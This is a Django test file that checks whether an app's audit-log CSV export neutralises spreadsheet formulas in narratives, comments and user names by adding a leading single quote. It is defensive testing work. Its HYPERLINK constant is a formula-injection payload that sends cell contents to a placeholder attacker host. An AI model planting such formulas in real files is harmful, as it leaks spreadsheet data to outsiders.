"""The audit log's CSV never holds a live formula: a comment, a user name or a narrative that
begins with =, +, -, @, tab or carriage return gets a single quote in front (OWASP)."""

from __future__ import annotations

import csv
import io

from django.contrib.auth.models import User

from tiltak.accounts.models import PlanRole
from tiltak.rounds import services
from tiltak.safe_csv import FORMULA_STARTS

from .conftest import PASSWORD, World

HYPERLINK = '=HYPERLINK("http://angriper.example/?d="&A1;"Klikk her")'


def test_audit_csv_neutralises_formulas(world: World) -> None:
    world.open()
    entry = world.entry("1")
    services.save_entry(
        world.users["lead_editor"], entry.pk, expected_version=1, status_label="",
        narrative=HYPERLINK, submit=True,
    )  # fmt: skip
    reviewer = User.objects.create_user("@koordinator", password=PASSWORD)
    PlanRole.objects.create(user=reviewer, plan=world.plan, role="coordinator")
    services.return_entry(reviewer, entry.pk, comment=HYPERLINK)

    url = f"/koordinator/{world.plan.slug}/{world.draft.slug}/logg.csv"
    response = world.client("coordinator").get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    header = rows[0]
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    returned = next(dict(zip(header, row, strict=True)) for row in rows if row[2] == "return")
    assert returned["begrunnelse"] == "'" + HYPERLINK
    assert returned["bruker"] == "'@koordinator"
    # Inside the JSON of "etter" the formula is not at the cell's start, so it is harmless text.
    assert any('"narrative": "=HYPERLINK(' in row[8] for row in rows[1:])
